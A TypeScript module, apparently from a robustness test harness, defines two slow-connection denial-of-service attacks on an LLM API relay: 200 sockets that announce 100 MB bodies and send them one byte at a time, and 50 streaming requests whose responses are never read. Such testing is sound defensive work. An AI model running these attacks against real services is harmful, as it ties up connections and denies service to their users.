import { connect, type Socket } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import type { Attack, Victim } from "./attack.ts";

const connections = 200;
const dripMs = 5;
const drops = 300;

function openTo({ relayUrl }: Victim): Socket {
  const { hostname, port } = new URL(relayUrl);
  return connect(Number(port), hostname).on("error", () => undefined);
}

const headOf = ({ secret }: Victim, length: number): string =>
  [
    "POST /v1/chat/completions HTTP/1.1",
    "Host: relay",
    `Authorization: Bearer ${secret}`,
    "Content-Type: application/json",
    `Content-Length: ${length}`,
    "",
    "",
  ].join("\r\n");

/** Large bodies are announced, and come byte by byte. */
export const drips: Attack = {
  name: "200 bodies of 100 MB that drip",
  prepare: () => async (victim) => {
    const sockets = Array.from({ length: connections }, () => openTo(victim));
    for (const socket of sockets) socket.write(headOf(victim, 100_000_000));
    for (let drop = 0; drop < drops; drop += 1) {
      for (const socket of sockets) socket.write(" ");
      await pause(dripMs);
    }
    for (const socket of sockets) socket.destroy();
    return "left";
  },
};

/** Long streams are asked for, and nothing of them is read. */
export const slowReaders: Attack = {
  name: "50 readers of streams who read nothing",
  prepare: () => async (victim) => {
    const body = '{"model":"event-tiny","stream":true,"messages":[{"role":"user","content":"x"}]}';
    const sockets = Array.from({ length: connections / 4 }, () => openTo(victim).pause());
    for (const socket of sockets) socket.write(headOf(victim, body.length) + body);
    await pause(dripMs * drops);
    for (const socket of sockets) socket.destroy();
    return "left";
  },
};
